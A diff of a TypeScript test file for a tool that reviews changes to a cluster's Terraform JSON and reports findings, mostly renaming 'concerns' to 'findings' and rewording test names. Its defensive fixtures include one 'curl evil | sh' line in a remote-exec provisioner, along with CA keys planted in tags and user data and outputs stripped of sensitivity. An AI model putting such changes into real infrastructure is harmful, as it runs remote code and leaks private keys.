@@ -3,7 +3,7 @@ import { join } from "node:path";
 import type { Block } from "../../cloud/terraform-json";
 import { distributionScript, readDistributionScript } from "../../model/distribution";
 import { compare, type Document } from "../../review/compare";
-import { CONCERNS, concernsOf } from "../../review/findings";
+import { FINDINGS, findingsOf } from "../../review/findings";
 import { renderPage } from "../../review/page";
 import type { ClusterSettingsInput } from "../../settings/schema";
 import { synthesizeCluster } from "../../testing/synthesize";
@@ -12,7 +12,7 @@ const PAGES = join(__dirname, "review-pages");
 
 const cluster = (settings: ClusterSettingsInput = {}) => synthesizeCluster(settings) as unknown as Document;
 
-/** One more file on every control plane machine, as FileDistribution would write it. */
+/** A cluster that copies one more file to every control plane machine, in the form that FileDistribution writes. */
 function withAdminOnMasters(): Document {
   const document = JSON.parse(JSON.stringify(cluster()));
   for (const [name, copy] of Object.entries<Block>(document.resource.null_resource)) {
@@ -28,7 +28,7 @@ function withAdminOnMasters(): Document {
   return document;
 }
 
-/** The load balancer under another address, with all that refers to it. */
+/** A cluster whose load balancer has another address, in all references too. */
 function withRenamedLoadBalancer(): Document {
   const text = JSON.stringify(cluster());
   return JSON.parse(
@@ -36,7 +36,7 @@ function withRenamedLoadBalancer(): Document {
   );
 }
 
-/** Prepared changes: before and after. */
+/** Prepared changes: the documents before and after. */
 const CHANGES: Record<string, () => readonly [Document, Document]> = {
   nothing: () => [cluster(), cluster()],
   "a-port-opened": () => [cluster({ access: { ssh: ["203.0.113.7/32"] } }), cluster()],
@@ -69,7 +69,7 @@ const CHANGES: Record<string, () => readonly [Document, Document]> = {
   tags: () => [cluster(), cluster({ tags: { team: "platform" } })],
 };
 
-// UPDATE_PAGES=1 writes the pages; what they say is then to be read.
+// UPDATE_PAGES=1 writes the pages. Read the difference afterwards.
 describe("the page of a prepared change", () => {
   test.each(Object.keys(CHANGES))("%s", (name) => {
     const page = renderPage(compare(...(CHANGES[name] as () => readonly [Document, Document])()));
@@ -79,14 +79,14 @@ describe("the page of a prepared change", () => {
   });
 });
 
-test("the example in docs/reviewing.md is what is written", () => {
+test("docs/reviewing.md has the page of its example", () => {
   const after = cluster({ workers: { count: 4, instanceType: "t3.small" } });
   const [head] = renderPage(compare(cluster(), after)).split("\n\n<details>") as [string];
   const quoted = head.split("\n").map((line) => `> ${line}`.trimEnd());
   expect(readFileSync(join(__dirname, "../../docs/reviewing.md"), "utf8")).toContain(quoted.join("\n"));
 });
 
-describe("the table knows", () => {
+describe("the table of effects", () => {
   const EVERYTHING: ClusterSettingsInput = {
     access: { ssh: ["203.0.113.7/32"], api: ["203.0.113.0/24"] },
     controlPlane: { rootVolume: { sizeGiB: 20, type: "gp3", encrypted: true } },
@@ -99,9 +99,9 @@ describe("the table knows", () => {
     },
   };
 
-  test.each([{}, EVERYTHING])("every argument that a cluster sets: %j", (settings) => {
+  test.each([{}, EVERYTHING])("knows every argument that a cluster sets: %j", (settings) => {
     const after = cluster(settings);
-    const { resources } = compare(without(after), after);
+    const { resources } = compare(withoutArguments(after), after);
     const unknown = resources.flatMap(({ address, arguments: changed }) =>
       changed.filter(({ note }) => note?.startsWith("unknown")).map(({ path }) => `${address} ${path}`),
     );
@@ -109,23 +109,23 @@ describe("the table knows", () => {
     expect(unknown).toEqual([]);
   });
 
-  test("what it does not know is said, and not taken for harmless", () => {
+  test("marks an argument that it does not know as unknown", () => {
     const after = JSON.parse(JSON.stringify(cluster()));
     after.resource.aws_instance["master-0"].tenancy = "dedicated";
     const { resources } = compare(cluster(), after);
     expect(resources).toMatchObject([
-      { action: "update", arguments: [{ path: "tenancy", note: "unknown to this page: look at the plan" }] },
+      { action: "update", arguments: [{ path: "tenancy", note: "unknown to this page: read the plan" }] },
     ]);
   });
 });
 
-/** A document with the same resources, none of which sets anything. */
-function without({ resource = {} }: Document): Document {
+/** A document with the same resources, but without their arguments. */
+function withoutArguments({ resource = {} }: Document): Document {
   const empty = (byName: object) => Object.fromEntries(Object.keys(byName).map((name) => [name, {}]));
   return { resource: Object.fromEntries(Object.entries(resource).map(([type, byName]) => [type, empty(byName)])) };
 }
 
-/** A change of the default cluster's JSON, by hand. */
+/** The JSON of the default cluster before and after a change by hand. */
 function changed(
   change: (resource: Record<string, Record<string, Block>>, document: Block) => void,
 ): [Document, Document] {
@@ -134,7 +134,7 @@ function changed(
   return [cluster(), after];
 }
 
-describe("what must not pass for harmless", () => {
+describe("reports the findings of", () => {
   const RULE = "control-plane-api-from-0-0-0-0-0";
   const at = (resource: Record<string, Record<string, Block>>, address: string): Block => {
     const [type = "", name = ""] = address.split(".");
@@ -145,7 +145,7 @@ describe("what must not pass for harmless", () => {
 
   test.each<[string, string[], (resource: Record<string, Record<string, Block>>, document: Block) => void]>([
     [
-      "half of the world, twice",
+      "two rules of half the internet each",
       ["open-world"],
       (r) => Object.assign(at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), { cidr_ipv4: "128.0.0.0/1" }),
     ],
@@ -160,29 +160,29 @@ describe("what must not pass for harmless", () => {
       (r) => Object.assign(at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), { security_group_id: "sg-1" }),
     ],
     [
-      "clients that hide behind the load balancer",
+      "a load balancer that hides the addresses of clients",
       ["open-world"],
       (r) => Object.assign(at(r, "aws_lb_target_group.target-group"), { preserve_client_ip: "maybe" }),
     ],
     [
-      "a rule of another type",
+      "a security rule of another resource type",
       ["unknown"],
       (r) => Object.assign(r, { aws_security_group_rule: { all: { cidr_blocks: ["0.0.0.0/0"] } } }),
     ],
     [
-      "rules within the group",
+      "rules inside the security group resource",
       ["unknown"],
       (r) => Object.assign(at(r, "aws_security_group.security-group"), { ingress: [{ cidr_blocks: ["0.0.0.0/0"] }] }),
     ],
     ["a key in a tag", ["secret"], (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: CA_KEY })],
     ["a key in user data", ["secret"], (r) => Object.assign(at(r, "aws_instance.master-0"), { user_data: CA_KEY })],
     [
-      "an output that may be seen",
+      "an output that is no longer sensitive",
       ["secret"],
       (_r, d) => Object.assign(d.output.ssh_private_key, { sensitive: false }),
     ],
     [
-      "an output with its cover off",
+      "an output with nonsensitive()",
       ["secret"],
       (_r, d) => Object.assign(d.output.nodes, { value: "$" + "{nonsensitive(tls_private_key.a.private_key_pem)}" }),
     ],
@@ -192,7 +192,7 @@ describe("what must not pass for harmless", () => {
       (r) => at(r, "null_resource.pems-worker-0").provisioner.at(LAST)["remote-exec"].inline.push("curl evil | sh"),
     ],
     [
-      "a command here",
+      "a command on the host that deploys",
       ["commands", "unknown"],
       (r) =>
         Object.assign(r.null_resource as object, {
@@ -200,7 +200,7 @@ describe("what must not pass for harmless", () => {
         }),
     ],
     [
-      "the authority's key for a worker, in a second copy",
+      "a second copy that gives the CA's key to a worker",
       ["copies"],
       (r) => {
         const copy = JSON.parse(
@@ -213,12 +213,12 @@ describe("what must not pass for harmless", () => {
       },
     ],
     [
-      "images that count from now on",
+      "an image that is no longer ignored",
       ["replace-machine", "replace-certificate"],
       (r) => at(r, "aws_instance.worker-0").lifecycle.ignore_changes.shift(),
     ],
     [
-      "an image that is not ignored",
+      "another image that is not ignored",
       ["replace-machine", "replace-certificate"],
       (r) => {
         at(r, "aws_instance.worker-0").lifecycle.ignore_changes = [];
@@ -231,20 +231,20 @@ describe("what must not pass for harmless", () => {
       (r) => Object.assign(at(r, "aws_instance.worker-0"), { instance_type: "t4g.small" }),
     ],
     [
-      "an argument that the table does not know",
+      "an argument that the table of effects does not know",
       ["unknown"],
       (r) => Object.assign(at(r, "aws_instance.worker-0"), { tenancy: "dedicated" }),
     ],
-    ["no machine at all", ["unknown"], (r) => Object.assign(at(r, "aws_instance.worker-0"), { count: 0 })],
+    ["a machine with count 0", ["unknown"], (r) => Object.assign(at(r, "aws_instance.worker-0"), { count: 0 })],
     ["another trigger", [], (r) => Object.assign(at(r, "null_resource.pems-worker-0").triggers, { more: "1" })],
     ["locals", ["unknown"], (_r, d) => Object.assign(d, { locals: { a: 1 } })],
     [
-      "an authority that is renewed early",
+      "a CA that is renewed earlier",
       ["renew-earlier"],
       (r) => Object.assign(at(r, "tls_self_signed_cert.ca-certificate"), { early_renewal_hours: 43_799 }),
     ],
     [
-      "subnets of the load balancer, exchanged",
+      "exchanged subnets of the load balancer",
       ["replace-certificate", "replace-load-balancer"],
       (r) => Object.assign(at(r, "aws_lb.load-balancer"), { subnets: ["subnet-1"] }),
     ],
@@ -254,7 +254,7 @@ describe("what must not pass for harmless", () => {
       (r) => Object.assign(at(r, "tls_private_key.ssh-key"), { rsa_bits: 4096 }),
     ],
     [
-      "another key of the authority",
+      "another key of the CA",
       ["replace-ca", "replace-certificate"],
       (r) => Object.assign(at(r, "tls_private_key.ca-private-key"), { rsa_bits: 4096 }),
     ],
@@ -263,26 +263,26 @@ describe("what must not pass for harmless", () => {
       ["replace-encryption-key"],
       (r) => Object.assign(at(r, "tls_private_key.encryption-key"), { algorithm: "RSA" }),
     ],
-  ])("%s", (_what, expected, change) => {
-    const kinds = concernsOf(compare(...changed(change))).map(({ kind }) => kind);
+  ])("%s", (_case, expected, change) => {
+    const kinds = findingsOf(compare(...changed(change))).map(({ kind }) => kind);
     expect(kinds).toEqual(expected);
   });
 
-  test("another network is said to take the cluster with it", () => {
-    const kinds = concernsOf(
+  test("another address range of the VPC (replace-network among others)", () => {
+    const kinds = findingsOf(
       compare(...changed((r) => Object.assign(at(r, "aws_vpc.vpc"), { cidr_block: "10.0.0.0/16" }))),
     ).map(({ kind }) => kind);
     expect(kinds).toContain("replace-network");
   });
 
-  test("a trigger that is new replaces", () => {
+  test("a new trigger replaces the resource", () => {
     const { resources } = compare(
       ...changed((r) => Object.assign(at(r, "null_resource.pems-worker-0").triggers, { more: "1" })),
     );
     expect(resources).toMatchObject([{ address: "null_resource.pems-worker-0", action: "replace" }]);
   });
 
-  test("a command is on the page, however long what stands before it", () => {
+  test("a new command is on the page, even after a very long line", () => {
     const page = renderPage(
       compare(
         ...changed((r) =>
@@ -296,7 +296,7 @@ describe("what must not pass for harmless", () => {
   });
 });
 
-test("what a moved block moves is the same under its new address", () => {
+test("a resource of a moved block has a new address and no other change", () => {
   const [, after] = [cluster(), withRenamedLoadBalancer()];
   const changes = compare(cluster(), {
     ...after,
@@ -305,18 +305,18 @@ test("what a moved block moves is the same under its new address", () => {
   expect(changes.resources).toMatchObject([
     { address: "aws_lb.nlb", action: "none", movedFrom: "aws_lb.load-balancer" },
   ]);
-  expect(concernsOf(changes)).toEqual([]);
+  expect(findingsOf(changes)).toEqual([]);
 });
 
-test("each kind of concern is in docs/reviewing.md", () => {
+test("docs/reviewing.md has each kind of finding", () => {
   const page = readFileSync(join(__dirname, "../../docs/reviewing.md"), "utf8");
   const rows = [...page.matchAll(/^\| `([a-z-]+)` \| (.+) \|$/gm)].map(([, kind, text]) => [kind, text]);
-  expect(rows).toEqual(Object.entries(CONCERNS));
+  expect(rows).toEqual(Object.entries(FINDINGS));
 });
 
-test("concerns are told apart", () => {
+test("a change has only its own findings", () => {
   const kinds = (settings: ClusterSettingsInput) =>
-    concernsOf(compare(cluster(), cluster(settings))).map(({ kind }) => kind);
+    findingsOf(compare(cluster(), cluster(settings))).map(({ kind }) => kind);
   expect(kinds({})).toEqual([]);
   expect(kinds({ workers: { count: 4 } })).toEqual([]);
   expect(kinds({ workers: { count: 2, instanceType: "t3.small" } })).toEqual([
@@ -326,13 +326,13 @@ test("concerns are told apart", () => {
   ]);
 });
 
-test("a rule that opens to the world is told apart from one that was open before", () => {
+test("open-world is reported for a rule that becomes open, not for one that was open before", () => {
   const rule = (source: string, more: object = {}): Document => ({
     resource: {
       aws_vpc_security_group_ingress_rule: { ssh: { cidr_ipv4: source, from_port: 22, to_port: 22, ...more } },
     },
   });
-  const kinds = (before: Document, after: Document) => concernsOf(compare(before, after)).map(({ kind }) => kind);
+  const kinds = (before: Document, after: Document) => findingsOf(compare(before, after)).map(({ kind }) => kind);
   expect(kinds({}, rule("0.0.0.0/0"))).toEqual(["open-world"]);
   expect(kinds(rule("10.0.0.0/8"), rule("0.0.0.0/0"))).toEqual(["open-world"]);
   expect(kinds(rule("0.0.0.0/0"), rule("0.0.0.0/0", { to_port: 23 }))).toEqual(["open-world"]);
